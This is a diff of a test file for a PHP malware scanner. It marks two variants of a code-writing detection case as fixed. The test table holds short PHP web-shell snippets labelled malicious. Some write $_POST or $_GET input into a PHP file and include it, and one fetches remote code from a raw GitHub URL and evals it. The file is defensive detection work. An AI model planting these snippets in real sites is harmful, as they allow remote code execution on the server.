@@ -13,9 +13,9 @@ const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.fro
 type Expect = 'malicious' | 'flagged' | 'not-malicious' | 'clean';
 // [finding id (a todo) or undefined (a property that holds), what, the PHP, what it should be]
 const CASES: [string | undefined, string, string, Expect][] = [
-  ["S24R-5", "mamori_php_request_code_file: the opening tag written \"<?php\\n\" (an escaped newline), then request input", "<?php\nfile_put_contents('tmp_view.php', \"<?php\\n\" . $_POST['body']);\ninclude 'tmp_view.php';\n", "malicious"],
+  [undefined, "S24R-5 (this variant fixed here): mamori_php_request_code_file: the opening tag written \"<?php\\n\" (an escaped newline), then request input", "<?php\nfile_put_contents('tmp_view.php', \"<?php\\n\" . $_POST['body']);\ninclude 'tmp_view.php';\n", "malicious"],
   ["S24R-5", "mamori_php_request_code_file: request input put in a variable first", "<?php\n$b = $_POST['body'];\nfile_put_contents('tmp_view.php', '<?php ' . $b);\ninclude 'tmp_view.php';\n", "malicious"],
-  ["S24R-5", "mamori_php_request_code_file: the short echo tag \"<?= \"", "<?php\nfile_put_contents('p.php', '<?= ' . $_GET['x'] . ' ?>');\ninclude 'p.php';\n", "malicious"],
+  [undefined, "S24R-5 (this variant fixed here): mamori_php_request_code_file: the short echo tag \"<?= \"", "<?php\nfile_put_contents('p.php', '<?= ' . $_GET['x'] . ' ?>');\ninclude 'p.php';\n", "malicious"],
   ["S24R-5", "mamori_php_request_code_file: request input inside a double-quoted string, \"<?php {$_POST[..]}\"", "<?php\nfile_put_contents(__DIR__ . '/page.php', \"<?php {$_POST['body']}\");\ninclude __DIR__ . '/page.php';\n", "malicious"],
   ["S24R-5", "mamori_php_request_code_file: sprintf('<?php %s', $_POST[..])", "<?php\nfile_put_contents('tmp_view.php', sprintf('<?php %s', $_POST['body']));\ninclude 'tmp_view.php';\n", "malicious"],
   ["S24R-6", "mamori_php_paste_site_code: the raw address split in two literals", "<?php\n$page = file_get_contents('https://raw.' . 'githubusercontent.com/someone/tools/main/panel.php');\neval('?>' . $page);\n", "malicious"],
